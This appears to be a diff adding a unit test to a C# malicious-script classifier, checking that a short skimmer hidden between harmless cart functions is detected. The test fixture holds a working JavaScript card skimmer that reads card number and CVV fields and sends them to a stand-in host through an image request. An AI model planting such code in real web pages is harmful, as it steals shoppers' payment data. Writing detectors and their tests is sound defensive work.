@@ -73,6 +73,20 @@ public sealed class ScriptClassifierTests
         ((int)Score($"{Skimmer[..middle]}\nvar text = [\"{string.Join("\", \"", words.Take(100))}\"];\n{Skimmer[middle..]}").Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Low);
     }
 
+    /// <summary>A few harmless functions around a short skimmer: what it reads and sends is judged by itself.</summary>
+    [Fact]
+    public void Score_ShortSkimmerBetweenHarmlessFunctions_IsFoundByItsFlow()
+    {
+        const string Short = "document.querySelector(\"#pay\").addEventListener(\"click\", function () { var n = document.getElementById(\"cc_number\").value, c = document.getElementById(\"cvv\").value; new Image().src = \"https://cdn-img.example/p.gif?d=\" + btoa(n + c); });\n";
+        const string Cart = "function add(cart, item) { var found = cart.items.find(function (one) { return one.sku === item.sku; }); if (found) found.count += 1; else cart.items.push(item); cart.total = cart.items.reduce(function (sum, one) { return sum + one.price * one.count; }, 0); return cart; }\nfunction show(box, cart) { box.textContent = cart.total.toFixed(2); box.classList.toggle(\"empty\", cart.items.length === 0); }\n";
+        ScriptVerdict verdict = Score(Cart + Short + Cart);
+
+        Score(Cart + Cart).Severity.ShouldBe(Severity.None);
+        verdict.Class.ShouldBe(ScriptClass.Skimmer);
+        ((int)verdict.Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Medium);
+        verdict.Evidence[0].Sentence.ShouldBe("Reads cc_number, cvv on click, makes text of it (btoa) and sends to cdn-img.example by an image request.");
+    }
+
     [Fact]
     public void Score_CheckoutOfAShop_IsHarmless()
     {
